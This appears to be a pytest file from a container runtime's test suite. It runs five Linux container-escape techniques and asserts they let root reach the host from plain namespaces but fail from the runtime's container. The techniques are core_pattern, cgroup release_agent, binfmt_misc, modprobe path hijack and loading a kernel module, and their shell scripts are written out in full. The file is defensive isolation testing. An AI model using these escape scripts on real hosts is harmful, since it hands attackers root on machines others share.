"""Switches of the whole machine that hand it to whoever reaches them, tried by root.

Where tests/escape runs they belong to a machine that others use. Here the attack is shown: the same
script, by root in plain namespaces, has the kernel run a program on the host; and by root of a
container, with the capabilities that engines give, it has not.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from installation import Account
from v2_containers import bundle, runtime

pytestmark = [pytest.mark.kernel, pytest.mark.usefixtures("guest", "needs_root")]

_CAPABILITIES = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW",
                 "CAP_SETGID", "CAP_SETUID", "CAP_SYS_CHROOT"]  # fmt: skip
_PROC = "mount -t proc proc /proc 2>/dev/null\n"


@dataclass(frozen=True)
class Attack:
    """A way to have the host run a program.

    Args:
        script: what root does inside; {helper} is a program of the host.
        host: what the host does afterwards, that sets it off or shows it; a shell script.
        undo: puts the host back.
    """

    script: str
    host: str = "true"
    undo: str = "true"


ATTACKS = {
    "core_pattern": Attack(
        _PROC + "echo '|{helper}' >/proc/sys/kernel/core_pattern\n"
        # Not as the last command: then the shell itself, process 1, would be asked to die of it.
        "ulimit -c unlimited; sh -c 'kill -SEGV $$'; sleep 1",
        undo="echo core >/proc/sys/kernel/core_pattern",
    ),
    "release_agent": Attack(
        "mkdir /tmp/c; mount -t cgroup -o none,name=escape none /tmp/c && mkdir /tmp/c/x &&\n"
        "echo 1 >/tmp/c/x/notify_on_release && echo {helper} >/tmp/c/release_agent &&\n"
        "sh -c 'echo $$ >/tmp/c/x/cgroup.procs'; sleep 1",
        undo="mount -t cgroup -o none,name=escape none /mnt && rmdir /mnt/x; umount /mnt",
    ),
    "binfmt_misc": Attack(
        _PROC + "mount -t binfmt_misc none /proc/sys/fs/binfmt_misc\n"
        "echo ':escape:M::ESCAPE::{helper}:' >/proc/sys/fs/binfmt_misc/register",
        host="printf ESCAPE >/tmp/program; chmod +x /tmp/program; /tmp/program",
        undo="echo -1 >/proc/sys/fs/binfmt_misc/escape",
    ),
    "modprobe": Attack(
        _PROC + "echo {helper} >/proc/sys/kernel/modprobe",
        # A program in a format that nobody knows makes the kernel look for a module.
        host=r"printf '\377\377\377\377' >/tmp/program; chmod +x /tmp/program; /tmp/program",
        undo="echo /sbin/modprobe >/proc/sys/kernel/modprobe",
    ),
    "module": Attack(
        "/bin/busybox insmod /data/module.ko",
        host="grep -q '^dummy ' /proc/modules && {helper}",
        undo="rmmod dummy",
    ),
}


@dataclass(frozen=True)
class Host:
    """A program of the host that leaves a mark when it is run, and says as whom."""

    account: Account
    helper: Path
    mark: Path

    def marked(self) -> str:
        deadline = time.monotonic() + 5
        while not self.mark.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        return self.mark.read_text().strip() if self.mark.exists() else ""


@pytest.fixture
def host(engine: Account) -> Iterator[Host]:
    mark = Path(f"/tmp/mark-{os.urandom(3).hex()}")
    helper = Path(f"/tmp/run-{os.urandom(3).hex()}")  # core_pattern takes 128 characters
    helper.write_text(f"#!/bin/sh\nid -u >{mark}\n")
    helper.chmod(0o755)
    # As on most machines: what is registered goes when the last mount goes.
    place = "/proc/sys/fs/binfmt_misc"
    if not Path(place, "register").exists():
        subprocess.run(["modprobe", "binfmt_misc"], check=True)
        subprocess.run(["mount", "-t", "binfmt_misc", "none", place], check=True)
    yield Host(engine, helper, mark)
    helper.unlink()
    mark.unlink(missing_ok=True)


def prepared(host: Host, script: str) -> Path:
    """A bundle with a module of this kernel in it, and a root that can be written."""
    sets = ("bounding", "effective", "permitted", "inheritable")
    capabilities = dict.fromkeys(sets, _CAPABILITIES)
    folder = bundle(host.account, script, {}, capabilities=capabilities)
    modules = Path("/lib/modules", os.uname().release)
    for module in modules.glob("kernel/drivers/net/dummy.ko"):
        shutil.copy(module, folder / "rootfs/data/module.ko")
    path = folder / "config.json"
    config = json.loads(path.read_text())
    config["root"]["readonly"] = False
    path.write_text(json.dumps(config))
    return folder


def in_plain_namespaces(host: Host, script: str) -> str:
    rootfs = prepared(host, script) / "rootfs"
    spaces = ["--mount", "--pid", "--fork", "--uts", "--ipc", "--net"]
    done = subprocess.run(
        ["unshare", *spaces, "chroot", str(rootfs), "/bin/sh", "-c", script],
        check=False, timeout=60, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    return done.stderr


def in_a_container(host: Host, script: str) -> str:
    ended = runtime(host.account)("run", "--bundle", str(prepared(host, script)), "c")
    assert "secure oci: " not in ended.err, ended.err  # the container itself was started
    return ended.err


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize(
    ("where", "seen"), [(in_plain_namespaces, "0"), (in_a_container, "")],
    ids=["the attack works", "not from a container"],
)  # fmt: skip
def test_the_host_runs_a_program(
    host: Host, name: str, where: Callable[[Host, str], str], seen: str
) -> None:
    attack = ATTACKS[name]
    try:
        said = where(host, attack.script.format(helper=host.helper))
        after = attack.host.format(helper=host.helper)
        subprocess.run(["sh", "-c", after], check=False, stderr=subprocess.DEVNULL)
        assert host.marked() == seen, said
    finally:
        subprocess.run(["sh", "-c", attack.undo], check=False, stderr=subprocess.DEVNULL)
